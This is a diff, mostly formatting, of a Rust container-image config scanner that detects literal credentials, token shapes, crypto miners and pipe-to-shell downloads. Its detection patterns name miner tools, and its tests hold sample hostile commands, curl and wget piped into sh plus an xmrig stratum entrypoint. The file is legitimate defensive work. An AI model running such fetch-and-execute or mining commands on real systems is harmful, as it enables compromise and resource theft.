@@ -29,28 +29,57 @@ impl ConfigDetector {
     pub fn new() -> Self {
         let re = |s: &str| Regex::new(s).expect("built-in regex compiles");
         ConfigDetector {
-            cred_name: re(r"(?i)(passw(or)?d|passwd|pwd$|secret|token|api_?key|apikey|access_?key|private_?key|credential|auth_?key|client_?secret|_pass$|^pass$)"),
+            cred_name: re(
+                r"(?i)(passw(or)?d|passwd|pwd$|secret|token|api_?key|apikey|access_?key|private_?key|credential|auth_?key|client_?secret|_pass$|^pass$)",
+            ),
             // Names that carry a credential's *location* or metadata, not the credential.
-            not_secret_name: re(r"(?i)(_file|_path|_dir|_url_file|_id|_name|_user(name)?|_length|_ttl|_expir[a-z]*|_timeout|_type|_header|_endpoint|_version|_enabled|_policy)$"),
+            not_secret_name: re(
+                r"(?i)(_file|_path|_dir|_url_file|_id|_name|_user(name)?|_length|_ttl|_expir[a-z]*|_timeout|_type|_header|_endpoint|_version|_enabled|_policy)$",
+            ),
             value_shapes: vec![
-                ("AWS access key id", re(r"\b(AKIA|ASIA|ABIA|ACCA)[0-9A-Z]{16}\b")),
-                ("GitHub token", re(r"\b(gh[pousr]_[A-Za-z0-9]{36,255}|github_pat_[A-Za-z0-9_]{60,255})\b")),
+                (
+                    "AWS access key id",
+                    re(r"\b(AKIA|ASIA|ABIA|ACCA)[0-9A-Z]{16}\b"),
+                ),
+                (
+                    "GitHub token",
+                    re(r"\b(gh[pousr]_[A-Za-z0-9]{36,255}|github_pat_[A-Za-z0-9_]{60,255})\b"),
+                ),
                 ("GitLab token", re(r"\bglpat-[A-Za-z0-9_\-]{20,}\b")),
                 ("Slack token", re(r"\bxox[baprse]-[A-Za-z0-9-]{10,}\b")),
                 ("Stripe secret key", re(r"\b[sr]k_live_[A-Za-z0-9]{20,}\b")),
                 ("Google API key", re(r"\bAIza[0-9A-Za-z_\-]{35}\b")),
-                ("private key", re(r"-----BEGIN ((RSA|EC|DSA|OPENSSH|ENCRYPTED) )?PRIVATE KEY-----")),
-                ("URL with embedded password", re(r"[a-z][a-z0-9+.\-]*://[^/\s:@]+:([^/\s@]{3,})@[^\s/]+")),
+                (
+                    "private key",
+                    re(r"-----BEGIN ((RSA|EC|DSA|OPENSSH|ENCRYPTED) )?PRIVATE KEY-----"),
+                ),
+                (
+                    "URL with embedded password",
+                    re(r"[a-z][a-z0-9+.\-]*://[^/\s:@]+:([^/\s@]{3,})@[^\s/]+"),
+                ),
             ],
-            miner: re(r"(?i)(stratum\d?\+(tcp|ssl|tls)://|\bxmrig\b|\bxmr-stak|\bcpuminer\b|\bminerd\b|\bccminer\b|\bcgminer\b|\bbfgminer\b|\bethminer\b|\bnbminer\b|\blolminer\b|\bt-rex\b|\bsrbminer|\bnanominer\b|\bphoenixminer\b|\bteamredminer\b|--donate-level|--randomx|\bcryptonight\b)"),
-            pipe_to_shell: re(r"(?i)\b(curl|wget|fetch)\b[^|;&]*\|\s*(sudo\s+)?(ba|da|z|k)?sh\b|\b(ba)?sh\s+-c\s+[\x22']?\$\((curl|wget)"),
-            raw_ip_url: re(r"(?i)\b(https?|ftp|tcp)://(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})(:\d+)?(/|\s|$)"),
+            miner: re(
+                r"(?i)(stratum\d?\+(tcp|ssl|tls)://|\bxmrig\b|\bxmr-stak|\bcpuminer\b|\bminerd\b|\bccminer\b|\bcgminer\b|\bbfgminer\b|\bethminer\b|\bnbminer\b|\blolminer\b|\bt-rex\b|\bsrbminer|\bnanominer\b|\bphoenixminer\b|\bteamredminer\b|--donate-level|--randomx|\bcryptonight\b)",
+            ),
+            pipe_to_shell: re(
+                r"(?i)\b(curl|wget|fetch)\b[^|;&]*\|\s*(sudo\s+)?(ba|da|z|k)?sh\b|\b(ba)?sh\s+-c\s+[\x22']?\$\((curl|wget)",
+            ),
+            raw_ip_url: re(
+                r"(?i)\b(https?|ftp|tcp)://(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})(:\d+)?(/|\s|$)",
+            ),
             build_arg: re(r"^\|\d+\s+(.*?)\s+/bin/(ba)?sh\s+-c"),
             paste_sites: canary_rules::paste_sites().collect(),
         }
     }
 
-    fn finding(rule_id: &str, confidence: Confidence, title: String, field: String, evidence: String, raw: &[u8]) -> Finding {
+    fn finding(
+        rule_id: &str,
+        confidence: Confidence,
+        title: String,
+        field: String,
+        evidence: String,
+        raw: &[u8],
+    ) -> Finding {
         let meta = canary_rules::rule(rule_id).expect("config rule ids exist in the catalog");
         Finding {
             rule_id: rule_id.to_string(),
@@ -65,7 +94,13 @@ impl ConfigDetector {
     }
 
     /// Secret-shaped values anywhere; returns whether one fired.
-    fn check_value_shapes(&self, field: &str, name: &str, value: &str, out: &mut Vec<Finding>) -> bool {
+    fn check_value_shapes(
+        &self,
+        field: &str,
+        name: &str,
+        value: &str,
+        out: &mut Vec<Finding>,
+    ) -> bool {
         let mut fired = false;
         for (what, re) in &self.value_shapes {
             if let Some(m) = re.find(value) {
@@ -75,9 +110,10 @@ impl ConfigDetector {
                 }
                 // For URLs, show where they point and hide only the password.
                 let (shown, raw) = match re.captures(value).and_then(|c| c.get(1)) {
-                    Some(pw) if *what == "URL with embedded password" => {
-                        (matched.replacen(pw.as_str(), &redact(pw.as_str()), 1), pw.as_str())
-                    }
+                    Some(pw) if *what == "URL with embedded password" => (
+                        matched.replacen(pw.as_str(), &redact(pw.as_str()), 1),
+                        pw.as_str(),
+                    ),
                     _ => (redact(matched), matched),
                 };
                 out.push(Self::finding(
@@ -108,7 +144,11 @@ impl ConfigDetector {
             if self.is_credential_name(name) && looks_like_literal_secret(value) {
                 out.push(Self::finding(
                     "config/env-credential",
-                    if value.len() >= 8 { Confidence::High } else { Confidence::Medium },
+                    if value.len() >= 8 {
+                        Confidence::High
+                    } else {
+                        Confidence::Medium
+                    },
                     format!("ENV {name} holds a literal credential"),
                     field,
                     format!("{name}={}", redact(value)),
@@ -118,7 +158,11 @@ impl ConfigDetector {
         }
     }
 
-    fn check_labels(&self, labels: &std::collections::BTreeMap<String, String>, out: &mut Vec<Finding>) {
+    fn check_labels(
+        &self,
+        labels: &std::collections::BTreeMap<String, String>,
+        out: &mut Vec<Finding>,
+    ) {
         for (k, v) in labels {
             let field = format!("config.Labels[{k:?}]");
             if self.check_value_shapes(&field, k, v, out) {
@@ -203,7 +247,9 @@ impl ConfigDetector {
         }
         if let Some(c) = self.build_arg.captures(created_by) {
             for kv in c[1].split_whitespace() {
-                let Some((name, value)) = kv.split_once('=') else { continue };
+                let Some((name, value)) = kv.split_once('=') else {
+                    continue;
+                };
                 if self.is_credential_name(name) && looks_like_literal_secret(value) {
                     out.push(Self::finding(
                         "config/build-arg-credential",
@@ -216,17 +262,17 @@ impl ConfigDetector {
                 }
             }
         }
-        if let Some(m) = self.miner.find(created_by) {
-            if m.as_str().to_ascii_lowercase().starts_with("stratum") {
-                out.push(Self::finding(
-                    "config/miner-command",
-                    Confidence::High,
-                    format!("build step references a mining pool ({})", m.as_str()),
-                    field,
-                    truncate(&self.redact_command(created_by), 200),
-                    created_by.as_bytes(),
-                ));
-            }
+        if let Some(m) = self.miner.find(created_by)
+            && m.as_str().to_ascii_lowercase().starts_with("stratum")
+        {
+            out.push(Self::finding(
+                "config/miner-command",
+                Confidence::High,
+                format!("build step references a mining pool ({})", m.as_str()),
+                field,
+                truncate(&self.redact_command(created_by), 200),
+                created_by.as_bytes(),
+            ));
         }
     }
 
@@ -237,7 +283,10 @@ impl ConfigDetector {
                 let before = lower[..at].chars().last();
                 let after = lower[at + site.len()..].chars().next();
                 matches!(before, Some('/') | Some('.') | Some('@') | Some(' ') | None)
-                    && matches!(after, Some('/') | Some(':') | Some(' ') | Some('"') | Some('\'') | None)
+                    && matches!(
+                        after,
+                        Some('/') | Some(':') | Some(' ') | Some('"') | Some('\'') | None
+                    )
             })
         })
     }
@@ -246,7 +295,9 @@ impl ConfigDetector {
     fn redact_command(&self, cmd: &str) -> String {
         let mut s = cmd.to_string();
         for (_, re) in &self.value_shapes {
-            s = re.replace_all(&s, |c: &regex::Captures<'_>| redact(&c[0])).into_owned();
+            s = re
+                .replace_all(&s, |c: &regex::Captures<'_>| redact(&c[0]))
+                .into_owned();
         }
         s
     }
@@ -284,7 +335,11 @@ impl Detector for ConfigDetector {
                 Confidence::High,
                 "image runs as root".into(),
                 "config.User".into(),
-                if user.is_empty() { "USER not set".into() } else { format!("USER {user}") },
+                if user.is_empty() {
+                    "USER not set".into()
+                } else {
+                    format!("USER {user}")
+                },
                 b"root",
             ));
         }
@@ -311,10 +366,30 @@ fn looks_like_literal_secret(v: &str) -> bool {
     }
     let lower = v.to_ascii_lowercase();
     let placeholders = [
-        "changeme", "change_me", "<password>", "password", "secret", "xxx", "xxxx", "none", "null", "true", "false",
-        "example", "your_password", "yourpassword", "your-token", "placeholder", "redacted", "dummy", "todo",
+        "changeme",
+        "change_me",
+        "<password>",
+        "password",
+        "secret",
+        "xxx",
+        "xxxx",
+        "none",
+        "null",
+        "true",
+        "false",
+        "example",
+        "your_password",
+        "yourpassword",
+        "your-token",
+        "placeholder",
+        "redacted",
+        "dummy",
+        "todo",
     ];
-    if placeholders.contains(&lower.as_str()) || lower.starts_with("your") || lower.chars().all(|c| c == 'x' || c == '*') {
+    if placeholders.contains(&lower.as_str())
+        || lower.starts_with("your")
+        || lower.chars().all(|c| c == 'x' || c == '*')
+    {
         return false;
     }
     if v.starts_with('$') || v.starts_with('/') || v.starts_with("file:") || v.starts_with("{{") {
@@ -348,7 +423,13 @@ mod tests {
 
     fn scan(cfg: ImageConfig) -> Vec<Finding> {
         let mut out = vec![];
-        ConfigDetector::new().scan_config(&ImageContext { name: "t", config: &cfg }, &mut out);
+        ConfigDetector::new().scan_config(
+            &ImageContext {
+                name: "t",
+                config: &cfg,
+            },
+            &mut out,
+        );
         out
     }
 
@@ -374,12 +455,24 @@ mod tests {
             "API_KEY=changeme",
             "REPO=https://bob:hunter22@git.example.org/x.git",
         ]));
-        let ids: Vec<_> = f.iter().map(|f| (f.rule_id.as_str(), f.location.display())).collect();
+        let ids: Vec<_> = f
+            .iter()
+            .map(|f| (f.rule_id.as_str(), f.location.display()))
+            .collect();
         assert_eq!(ids.len(), 3, "{ids:?}");
-        assert!(ids.contains(&("config/env-credential", "config.Env[0] (DB_PASSWORD)".into())));
+        assert!(ids.contains(&(
+            "config/env-credential",
+            "config.Env[0] (DB_PASSWORD)".into()
+        )));
         assert!(ids.contains(&("config/env-secret-value", "config.Env[4] (X)".into())));
         for f in &f {
-            assert!(!f.evidence.contains("s3cr3t") && !f.evidence.contains("hunter22") && !f.evidence.contains("QWERTYUIOP"), "{}", f.evidence);
+            assert!(
+                !f.evidence.contains("s3cr3t")
+                    && !f.evidence.contains("hunter22")
+                    && !f.evidence.contains("QWERTYUIOP"),
+                "{}",
+                f.evidence
+            );
         }
     }
 
@@ -391,15 +484,38 @@ mod tests {
     #[test]
     fn history_and_commands() {
         let mut cfg = with_env(&[]);
-        cfg.config.cmd = Some(vec!["/bin/sh".into(), "-c".into(), "curl -s http://x.io/a.sh | bash".into()]);
-        cfg.config.entrypoint = Some(vec!["./xmrig".into(), "-o".into(), "stratum+tcp://pool.example:3333".into()]);
+        cfg.config.cmd = Some(vec![
+            "/bin/sh".into(),
+            "-c".into(),
+            "curl -s http://x.io/a.sh | bash".into(),
+        ]);
+        cfg.config.entrypoint = Some(vec![
+            "./xmrig".into(),
+            "-o".into(),
+            "stratum+tcp://pool.example:3333".into(),
+        ]);
         cfg.history = vec![
-            History { created_by: Some("/bin/sh -c wget -qO- http://203.0.113.7/x | sh".into()), ..Default::default() },
-            History { created_by: Some("/bin/sh -c curl -fsSL https://pastebin.com/raw/abc -o /x".into()), ..Default::default() },
-            History { created_by: Some("|2 GITHUB_TOKEN=abcd1234efgh NODE=20 /bin/sh -c make".into()), ..Default::default() },
-            History { created_by: Some("/bin/sh -c apt-get install -y curl".into()), ..Default::default() },
+            History {
+                created_by: Some("/bin/sh -c wget -qO- http://203.0.113.7/x | sh".into()),
+                ..Default::default()
+            },
+            History {
+                created_by: Some("/bin/sh -c curl -fsSL https://pastebin.com/raw/abc -o /x".into()),
+                ..Default::default()
+            },
+            History {
+                created_by: Some("|2 GITHUB_TOKEN=abcd1234efgh NODE=20 /bin/sh -c make".into()),
+                ..Default::default()
+            },
+            History {
+                created_by: Some("/bin/sh -c apt-get install -y curl".into()),
+                ..Default::default()
+            },
         ];
-        let ids: Vec<String> = scan(cfg).into_iter().map(|f| format!("{} @ {}", f.rule_id, f.location.display())).collect();
+        let ids: Vec<String> = scan(cfg)
+            .into_iter()
+            .map(|f| format!("{} @ {}", f.rule_id, f.location.display()))
+            .collect();
         for want in [
             "config/cmd-download-exec @ config.Cmd",
             "config/miner-command @ config.Entrypoint",
@@ -417,9 +533,17 @@ mod tests {
     fn root_user() {
         let mut cfg = with_env(&[]);
         cfg.config.user = None;
-        assert!(scan(cfg.clone()).iter().any(|f| f.rule_id == "config/user-root"));
+        assert!(
+            scan(cfg.clone())
+                .iter()
+                .any(|f| f.rule_id == "config/user-root")
+        );
         cfg.config.user = Some("0:0".into());
-        assert!(scan(cfg.clone()).iter().any(|f| f.rule_id == "config/user-root"));
+        assert!(
+            scan(cfg.clone())
+                .iter()
+                .any(|f| f.rule_id == "config/user-root")
+        );
         cfg.config.user = Some("1000".into());
         assert!(scan(cfg).is_empty());
     }
